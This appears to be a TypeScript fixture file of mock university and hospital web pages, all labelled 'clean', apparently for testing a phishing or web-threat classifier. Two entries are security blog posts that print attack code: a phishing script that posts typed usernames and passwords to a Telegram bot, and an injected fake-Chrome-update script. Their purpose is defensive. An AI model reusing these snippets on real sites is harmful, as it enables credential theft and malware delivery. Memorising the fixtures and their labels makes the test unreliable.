import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { fileRoute, jsRoute, jsonRoute, pe, pngRoute } from '../parts/e-bin.js';
import { campusCss, campusPage, cardFields, doc, esc } from '../parts/zt-kit.js';

export const entries: Entry[] = [
{
  id: 'zt-clean-it-article-kit-writeup',
  label: 'clean',
  kind: 'security-article',
  url: 'https://security.northgatehealth.org/blog/2025/10/anatomy-of-a-payroll-phish',
  body: campusPage('Anatomy of a payroll phish — Northgate Health Security Blog', `
<h1>Anatomy of a payroll phish we saw this month</h1>
<p>Between October 6 and 10, 214 staff received a "2025 Salary Adjustment Letter" email. The link led to a page on a free hosting service that copied the Microsoft sign-in page and prefilled the victim's address from the URL fragment.</p>
<p>The page's script sent whatever was typed to a Telegram bot. Here is the relevant part, with the token redacted:</p>
<pre>${esc(`var bot='74288xxxxx:AAHk3vL0pQm...', chat='-100221xxxxxxx';
document.getElementById('f').onsubmit=async function(e){
  e.preventDefault();
  var t='PAYROLL 365\\nUser: '+u.value+'\\nPass: '+p.value;
  await fetch('https://api.telegram.org/bot'+bot+'/sendMessage',{method:'POST',
    headers:{'Content-Type':'application/json'},body:JSON.stringify({chat_id:chat,text:t})});
  location.replace('https://www.office.com/');
};`)}</pre>
<p>Tell-tale signs: the address bar did not show <code>login.microsoftonline.com</code>; the page asked for your password without first asking for your email; and payroll letters are only ever posted in Workday.</p>
<p>We blocked the domain at the mail gateway and web proxy and reset the passwords of the 9 people who entered them. Thanks to everyone who pressed <b>Report Phish</b>.</p>`, { unit: 'Northgate University Health — Information Security' }),
},
{
  id: 'zt-clean-hpc-getting-started-copy',
  label: 'clean',
  kind: 'docs-clipboard',
  url: 'https://arc.northgate.edu/docs/getting-started/first-login',
  body: campusPage('First login to the Lakeshore cluster | Advanced Research Computing', `
<h1>Your first login to Lakeshore</h1>
<p>Lakeshore is Northgate's shared HPC cluster (412 nodes, Slurm). You need an ARC account approved by your PI and Duo enrolled.</p>
<div class="cmd"><pre id="c1">ssh your_netid@lakeshore.arc.northgate.edu</pre><button data-c="c1">Copy</button></div>
<p>Load software with environment modules:</p>
<div class="cmd"><pre id="c2">module load python/3.12 cuda/12.4
sbatch --partition=gpu --gres=gpu:1 job.sh</pre><button data-c="c2">Copy</button></div>
<p>To install Apptainer containers from Docker Hub:</p>
<div class="cmd"><pre id="c3">apptainer pull docker://biocontainers/samtools:v1.9-4-deb_cv1</pre><button data-c="c3">Copy</button></div>
<script>document.querySelectorAll('.cmd button').forEach(function(b){b.addEventListener('click',function(){navigator.clipboard.writeText(document.getElementById(b.dataset.c).textContent).then(function(){b.textContent='Copied!';setTimeout(function(){b.textContent='Copy'},1500)})})});</script>`, { unit: 'Advanced Research Computing', css: '.cmd{position:relative}.cmd button{position:absolute;top:6px;right:6px}' }),
},
{
  id: 'zt-clean-conference-registration-card',
  label: 'clean',
  kind: 'conference-registration',
  url: 'https://www.midwest-cancer-research-symposium.org/register',
  body: doc('Register — 2026 Midwest Cancer Research Symposium', `
<header style="background:#2b3a67;color:#fff;padding:18px 30px;font-family:Arial"><b>Midwest Cancer Research Symposium 2026</b> &middot; April 16&ndash;18 &middot; Northgate University Conference Center, Lakeport MI</header>
<main style="max-width:760px;margin:24px auto;font-family:Arial">
<h1>Registration</h1>
<table cellpadding="6" border="1" style="border-collapse:collapse"><tr><th>Category</th><th>Early (by Feb 15)</th><th>Regular</th></tr><tr><td>Faculty / Physician</td><td>$395</td><td>$475</td></tr><tr><td>Postdoc / Resident</td><td>$195</td><td>$245</td></tr><tr><td>Graduate student</td><td>$95</td><td>$125</td></tr></table>
<form method="post" action="/register/checkout" id="reg">
 <label>Full name</label><input name="name"><label>Institution</label><input name="inst"><label>Email</label><input name="email" type="email">
 <label>Category</label><select name="cat"><option>Faculty / Physician</option><option>Postdoc / Resident</option><option>Graduate student</option></select>
 <fieldset style="margin-top:14px;max-width:460px"><legend>Payment (processed by Stripe)</legend>${cardFields()}</fieldset>
 <button class="btn" style="margin-top:14px">Pay and register</button>
</form>
<p style="font-size:13px">Cancellation: full refund less a $25 fee until March 15. Hotel block: Lakeport Marriott, book via the link in your confirmation email only. <b>We do not work with third-party housing agencies</b> &mdash; if one contacts you, ignore it.</p>
<p style="font-size:13px">Organized by the Northgate Cancer Institute. Questions: mcrs@northgate.edu</p>
</main>`, { css: campusCss }),
},
{
  id: 'zt-clean-student-job-board',
  label: 'clean',
  kind: 'job-board',
  url: 'https://studentjobs.northgate.edu/postings?q=research+assistant',
  body: campusPage('Student Employment — Job Postings', `
<h1>Student Employment</h1>
<form method="get" action="/postings"><input name="q" value="research assistant"><button class="btn">Search</button></form>
<ul style="line-height:1.8">
 <li><a href="/postings/4471">Undergraduate Research Assistant &mdash; Chen Lab (Cell Biology)</a> &middot; $15.50/hr &middot; 10&ndash;15 hrs/wk &middot; on campus</li>
 <li><a href="/postings/4480">Clinical Research Assistant (Work-Study) &mdash; Dept. of Pediatrics</a> &middot; $16.00/hr</li>
 <li><a href="/postings/4502">Data Entry Assistant &mdash; School of Public Health</a> &middot; $15.00/hr &middot; hybrid</li>
</ul>
<div class="note"><b>Job scam warning:</b> Northgate departments will never send you a check and ask you to buy supplies, gift cards or send money back. All student jobs are listed here and paid through Workday. Report offers that arrive from personal email addresses to studentjobs@northgate.edu.</div>`, { unit: 'Northgate University — Career Center' }),
},
{
  id: 'zt-clean-parked-domain',
  label: 'clean',
  kind: 'parked-domain',
  url: 'https://northgate-alumni.com/',
  body: doc('northgate-alumni.com', `
<div style="font-family:Arial;text-align:center;padding-top:12vh;color:#333">
 <h1 style="font-weight:400">northgate-alumni.com</h1>
 <p>This domain may be for sale. <a href="https://www.afternic.com/forsale/northgate-alumni.com?traffic_type=TDFS">Buy this domain</a></p>
 <h3 style="margin-top:40px;color:#777">Related searches</h3>
 <p><a href="/search?q=Alumni+Reunion">Alumni Reunion</a> &middot; <a href="/search?q=College+Degree+Online">College Degree Online</a> &middot; <a href="/search?q=Class+Rings">Class Rings</a></p>
 <p style="font-size:11px;color:#999;margin-top:60px">Copyright &copy; 2025. All rights reserved. <a href="/privacy">Privacy Policy</a></p>
</div>`),
},
{
  id: 'zt-clean-bitly-to-journal',
  label: 'clean',
  kind: 'benign-redirect-chain',
  url: 'https://bit.ly/3NgRsymp',
  routes: {
    'bit.ly/3NgRsymp': redirectRoute(301, 'https://www.northgate.edu/research/symposium?utm_source=twitter&utm_medium=social'),
    'www.northgate.edu/research/symposium': htmlRoute(campusPage('Graduate Research Symposium 2026 | Northgate University', `
<h1>Graduate Research Symposium</h1><p>March 6, 2026 &middot; Student Union Ballroom. Abstract submissions are open until January 16 through <a href="https://northgate.infoready4.com/">InfoReady</a>. Free for Northgate students; no registration fee.</p>`)),
  },
},
{
  id: 'zt-clean-service-desk-phone',
  label: 'clean',
  kind: 'support-page',
  url: 'https://it.northgatehealth.org/contact',
  body: campusPage('Contact the IT Service Desk | Northgate University Health', `
<h1>IT Service Desk</h1>
<p style="font-size:22px"><b>(269) 555-4357</b> (HELP) &mdash; 24/7 for clinical systems</p>
<p>Epic, Imprivata badge tap, pagers, clinical workstations, VPN, Duo, email. Walk-up support: University Hospital, Level B, Room B-112 (Mon&ndash;Fri 7 a.m.&ndash;6 p.m.).</p>
<div class="note">The Service Desk will never call you to ask for your password or a Duo code, and we will never ask you to install remote-access software unless you opened a ticket. If a pop-up on your screen says to call a "Microsoft support" number, close the browser and call us instead.</div>
<h2>Open a ticket</h2><p><a class="btn" href="https://northgatehealth.service-now.com/sp?id=sc_cat_item&sys_id=3f1dd0320a0a0b99">Submit a request in ServiceNow</a></p>`, { unit: 'Northgate University Health — IT Services' }),
},
{
  id: 'zt-clean-retirement-plan-investing',
  label: 'clean',
  kind: 'legit-investment',
  url: 'https://hr.northgate.edu/retirement/403b',
  body: campusPage('403(b) Retirement Savings Plan | Human Resources', `
<h1>403(b) Retirement Savings Plan</h1>
<p>Northgate contributes 10% of eligible pay when you contribute 5%. Plan record-keeper: TIAA. Investment options include target-date funds, index funds and a guaranteed annuity.</p>
<p>Past performance is no guarantee of future results. Investing involves risk, including possible loss of principal.</p>
<ul><li>Enroll or change your contribution in <a href="https://wd5.myworkday.com/northgate/login.htmld">Workday</a>.</li><li>Choose investments at <a href="https://www.tiaa.org/public/tcm/northgate">tiaa.org/northgate</a>.</li><li>Free one-on-one sessions with a TIAA financial consultant: book via the TIAA site.</li></ul>`, { unit: 'Northgate University — Human Resources' }),
},
{
  id: 'zt-clean-es-portal-paciente-ayuda',
  label: 'clean',
  kind: 'support-page',
  url: 'https://www.northgatehealth.org/es/pacientes/mychart-ayuda',
  body: doc('Ayuda con MyChart | Northgate University Health', `
<header style="background:#0b4f8a;color:#fff;padding:14px 26px;font:600 19px Arial">Northgate University Health</header>
<main style="max-width:760px;margin:24px auto;font-family:Arial">
<h1>Ayuda con MyChart</h1>
<p>MyChart le permite ver sus resultados, enviar mensajes a su médico y pagar su factura. Puede cambiar el idioma a español en la página de inicio de sesión.</p>
<ul><li>Inicie sesión solamente en <b>mychart.northgatehealth.org</b>.</li><li>¿Olvidó su contraseña? Use "¿Olvidó su contraseña?" en la página de inicio de sesión o llame al (269) 555-6200 (línea en español disponible).</li></ul>
<p><b>Aviso:</b> Nunca le pediremos su contraseña ni su número de Seguro Social por mensaje de texto o correo electrónico.</p>
<p><a href="https://mychart.northgatehealth.org/MyChart/Authentication/Login?lang=spanish" style="background:#0b4f8a;color:#fff;padding:10px 20px;text-decoration:none">Ir a MyChart</a></p>
</main>`, { lang: 'es' }),
},
{
  id: 'zt-clean-report-phish-howto',
  label: 'clean',
  kind: 'security-awareness',
  url: 'https://it.northgatehealth.org/kb/KB0012034',
  body: campusPage('KB0012034: How to report a phishing email', `
<h1>How to report a suspicious email (Outlook, Outlook on the web, mobile)</h1>
<ol><li>Select the message. Do not click links or open attachments.</li><li>Click <b>Report</b> &rarr; <b>Report phishing</b> in the ribbon.</li><li>The message is removed from your inbox and sent to the Security Operations Center.</li></ol>
<p>If you already entered your password on a suspicious page, change it at <a href="https://password.northgate.edu/">password.northgate.edu</a> and call (269) 555-4357.</p>
<p>Common lures this term: voicemail notifications, "document shared with you", salary adjustments, DocuSign requests for IRB documents, Duo re-registration, and QR codes in PDF attachments.</p>`, { unit: 'Northgate University Health — IT Knowledge Base' }),
},
{
  id: 'zt-clean-teams-download-official',
  label: 'clean',
  kind: 'brand-own-download',
  url: 'https://www.microsoft.com/en-us/microsoft-teams/download-app',
  body: doc('Download Microsoft Teams Desktop and Mobile Apps | Microsoft Teams', `
<div style="padding:14px 30px;border-bottom:1px solid #eee;font-family:Segoe UI">Microsoft &nbsp;|&nbsp; Teams</div>
<div style="max-width:800px;margin:40px auto;font-family:Segoe UI">
 <h1 style="font-weight:600">Download Microsoft Teams for desktop</h1>
 <p>Meet, chat, call and collaborate in just one place.</p>
 <a href="https://go.microsoft.com/fwlink/?linkid=2281613&clcid=0x409&culture=en-us&country=us" style="background:#5b5fc7;color:#fff;padding:12px 28px;text-decoration:none;border-radius:4px">Download Teams</a>
 <p style="font-size:13px;margin-top:20px">Work or school account? Your organization may install Teams for you. Also available for <a href="#">Mac</a>, <a href="#">iOS</a> and <a href="#">Android</a>.</p>
</div>`),
},
{
  id: 'zt-clean-qr-clinic-checkin',
  label: 'clean',
  kind: 'qr-landing',
  url: 'https://www.northgatehealth.org/checkin?clinic=FM-LAKEPORT&src=qr',
  routes: {
    'www.northgatehealth.org/checkin': htmlRoute(doc('eCheck-In | Northgate University Health', `
<main style="max-width:480px;margin:30px auto;font-family:Arial;padding:0 16px">
<h1 style="color:#0b4f8a">Welcome to Family Medicine &ndash; Lakeport</h1>
<p>Already have an appointment today? Check in from your phone with MyChart to skip the front desk.</p>
<p><a href="https://mychart.northgatehealth.org/MyChart/Scheduling/Arrival" style="display:block;text-align:center;background:#0b4f8a;color:#fff;padding:14px;text-decoration:none;border-radius:6px">Check in with MyChart</a></p>
<p>No MyChart account? Please check in at the front desk. Interpreter services are free: ask staff or call (269) 555-6200.</p>
</main>`)),
  },
},
{
  id: 'zt-clean-gift-shop-egift',
  label: 'clean',
  kind: 'checkout',
  url: 'https://giftshop.northgatehealth.org/egift-cards',
  body: doc('eGift Cards | Northgate Hospital Gift Shop', `
<header style="background:#2f6f5e;color:#fff;padding:14px 26px;font:600 18px Arial">Northgate Hospital Gift Shop &middot; Run by the Auxiliary Volunteers</header>
<main style="max-width:760px;margin:24px auto;font-family:Arial">
<h1>Send an eGift card to a patient</h1>
<p>eGift cards can be used in the gift shop and at the University Hospital caf&eacute;. Proceeds support the Volunteer Auxiliary.</p>
<form method="post" action="/egift-cards/cart">
 <label>Amount</label><select name="amt"><option>$10</option><option>$25</option><option>$50</option></select>
 <label>Patient name and room (optional)</label><input name="patient"><label>Your message</label><textarea name="msg"></textarea>
 ${cardFields()}
 <button class="btn" style="margin-top:14px">Buy eGift card</button>
</form>
<p style="font-size:13px">Hospital staff will never ask you to buy gift cards as payment for a bill or a fee.</p>
</main>`, { css: campusCss }),
},
{
  id: 'zt-clean-fake-update-article',
  label: 'clean',
  kind: 'security-article',
  url: 'https://blog.lakeport-secops.com/2025/08/socgholish-fake-updates-on-clinic-sites',
  body: doc('SocGholish-style fake updates hit regional clinic websites — Lakeport SecOps', `
<main style="max-width:760px;margin:30px auto;font-family:Georgia,serif">
<h1>Fake browser updates on regional clinic websites</h1>
<p><i>August 28, 2025 &middot; 6 min read</i></p>
<p>We found an injected script on three WordPress sites belonging to pediatric and dental practices in the region. The script replaces the page with a "Your Chrome is out of date" screen and offers an executable.</p>
<pre style="font-family:Consolas,monospace;background:#f4f4f4;padding:12px;white-space:pre-wrap">${esc(`<script src="https://www.[redacted]-pediatrics.com/wp-content/plugins/wp-stats/js/s.js"></script>
// s.js
document.documentElement.innerHTML='...<h1>Your Chrome is out of date</h1>...<a href="https://chrome-update-center[.]com/dl/ChromeUpdate_x64.exe">Update Chrome</a>';`)}</pre>
<p>The download is a loader for a remote-access tool. Indicators: <code>chrome-update-center[.]com</code>, <code>cdn-secure-msg[.]net</code>. Chrome updates itself; it never asks you to download an installer from a web page.</p>
</main>`),
},
{
  id: 'zt-clean-fr-conference-inscription',
  label: 'clean',
  kind: 'conference-registration',
  url: 'https://www.congres-acfas.ca/inscription',
  body: doc('Inscription — Congrès de l’Acfas', `
<header style="background:#00477f;color:#fff;padding:16px 30px;font-family:Arial"><b>93e Congrès de l’Acfas</b> &middot; Mai 2026</header>
<main style="max-width:760px;margin:24px auto;font-family:Arial">
<h1>Inscription</h1>
<p>Tarifs : membre 225 $, non-membre 310 $, étudiant·e 95 $. Taxes en sus. Le paiement est traité de façon sécurisée par Moneris.</p>
<form method="post" action="/inscription/paiement">
 <label>Nom</label><input name="nom"><label>Établissement</label><input name="etab"><label>Courriel</label><input name="courriel" type="email">
 ${cardFields()}
 <button class="btn" style="margin-top:14px">Payer et s’inscrire</button>
</form>
<p style="font-size:13px">Attention : des entreprises se faisant passer pour l’Acfas sollicitent des réservations d’hôtel. Réservez uniquement par les liens de ce site.</p>
</main>`, { lang: 'fr', css: campusCss }),
},
{
  id: 'zt-clean-zotero-download',
  label: 'clean',
  kind: 'research-tool-download',
  url: 'https://www.zotero.org/download/',
  body: doc('Zotero | Downloads', `
<header style="padding:14px 30px;border-bottom:1px solid #eee;font:700 22px Arial;color:#cc2936">zotero</header>
<main style="max-width:800px;margin:30px auto;font-family:Arial;display:flex;gap:40px">
 <div><h2>Zotero 7 for Windows</h2><p>Your personal research assistant</p><a href="https://www.zotero.org/download/client/dl?channel=release&platform=win-x64&version=7.0.26" style="background:#cc2936;color:#fff;padding:10px 22px;text-decoration:none">Download</a><p style="font-size:13px">Other platforms: <a href="#">macOS</a>, <a href="#">Linux</a></p></div>
 <div><h2>Zotero Connector</h2><p>Save to Zotero from your browser</p><a href="https://chromewebstore.google.com/detail/zotero-connector/ekhagklcjbdpajgpjgmbionohlpdbjgc">Install Chrome Connector</a><p style="font-size:13px">Safari: the connector is bundled with Zotero for Mac and enabled in Safari &rarr; Settings &rarr; Extensions.</p></div>
</main>`),
  routes: { 'www.zotero.org/download/client/dl': redirectRoute(302, 'https://download.zotero.org/client/release/7.0.26/Zotero-7.0.26_x64_setup.exe'), 'download.zotero.org/client/release/7.0.26/Zotero-7.0.26_x64_setup.exe': fileRoute(pe({ x64: true, strings: ['Zotero', 'Corporation for Digital Scholarship', 'Nullsoft'] }), 'application/octet-stream', 'Zotero-7.0.26_x64_setup.exe') },
},
{
  id: 'zt-clean-publisher-apc-payment',
  label: 'clean',
  kind: 'journal-apc-payment',
  url: 'https://payments.plos.org/invoice/PONE-D-25-41873',
  body: doc('Pay your publication fee | PLOS', `
<header style="padding:14px 30px;border-bottom:3px solid #3c63af;font:700 22px Arial;color:#3c63af">PLOS</header>
<main style="max-width:760px;margin:24px auto;font-family:Arial">
<h1>Publication fee &mdash; PLOS ONE</h1>
<p>Manuscript PONE-D-25-41873 &middot; "Seasonal variation in pediatric asthma exacerbations in the Great Lakes region" &middot; Corresponding author: M. Osei, Northgate University</p>
<p>Amount due: <b>USD 2,382.00</b>. Your institution has a PLOS Community Action Publishing agreement; if you are eligible, the discount was already applied. Fee assistance requests must be submitted before acceptance.</p>
<form method="post" action="/invoice/PONE-D-25-41873/pay">${cardFields()}<label>Billing email</label><input name="email" type="email"><br><button class="btn" style="margin-top:14px;background:#3c63af">Pay USD 2,382.00</button></form>
<p style="font-size:13px">You can also pay by bank transfer or ask for a quote for a purchase order. Questions: billing@plos.org</p>
</main>`, { css: campusCss }),
},
{
  id: 'zt-clean-webinar-voicemail-feature',
  label: 'clean',
  kind: 'vendor-docs',
  url: 'https://support.microsoft.com/en-us/office/check-your-voicemail-in-microsoft-teams-6f4ae7d9-4f0d-4c38-9eb0-a9d3ae4d3c3b',
  body: doc('Check your voicemail in Microsoft Teams - Microsoft Support', `
<main style="max-width:760px;margin:30px auto;font-family:Segoe UI,Arial">
<h1>Check your voicemail in Microsoft Teams</h1>
<p>Select <b>Calls</b> &gt; <b>History</b> in Teams, then choose the voicemail you want to listen to. You can play it, read the transcript, or call the person back.</p>
<p>Voicemail is also delivered to your Outlook inbox as an email with an audio attachment (.mp3). You don't need to sign in to a separate website to play it.</p>
<p>Was this information helpful? <button>Yes</button> <button>No</button></p>
</main>`),
},
];
